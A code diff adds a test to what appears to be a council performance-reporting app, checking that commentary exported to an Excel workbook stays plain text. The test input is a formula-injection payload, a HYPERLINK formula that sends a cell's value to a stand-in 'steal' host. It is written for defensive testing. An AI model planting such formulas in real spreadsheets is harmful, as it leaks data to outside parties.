@@ -57,3 +57,20 @@ def test_the_councillors_workbook_has_figures_only_with_small_numbers_suppressed
     assert book.sheetnames == ["Figures"]
     figures = {row[0]: row for row in book["Figures"].iter_rows(min_row=4, values_only=True)}
     assert figures["A01"][2:5] == ("c", "c", "c")
+
+
+def test_typed_text_reaches_the_workbook_as_text_never_as_a_formula_or_link(staff, client_for):
+    """Formula injection: a commentary typed as "=HYPERLINK(...)" must not become a live formula."""
+    typed = '=HYPERLINK("http://example.invalid/steal?"&A1,"Click for the full figures")'
+    with time_machine.travel(datetime.datetime(2025, 9, 10, 12, 0, tzinfo=datetime.UTC), tick=False):
+        services.commentary_write(actor=staff.performance_officer, indicator_id="A01", month=D(2025, 8, 1), text=typed)
+        services.commentary_write(
+            actor=staff.performance_officer, indicator_id="A02", month=D(2025, 8, 1), text="https://example.invalid/x"
+        )
+        snapshot = services.snapshot_publish(actor=staff.performance_officer, month=D(2025, 8, 1))
+    response = client_for(staff.performance_officer).get(reverse("performance:published_workbook", args=[snapshot.pk]))
+    book = openpyxl.load_workbook(io.BytesIO(response.content))
+    cells = {row[0].value: row[9] for row in book["Figures"].iter_rows(min_row=4) if row[0].value in ("A01", "A02")}
+    assert cells["A01"].value == typed
+    assert cells["A01"].data_type == "s"  # a string; a formula would be "f"
+    assert cells["A02"].hyperlink is None
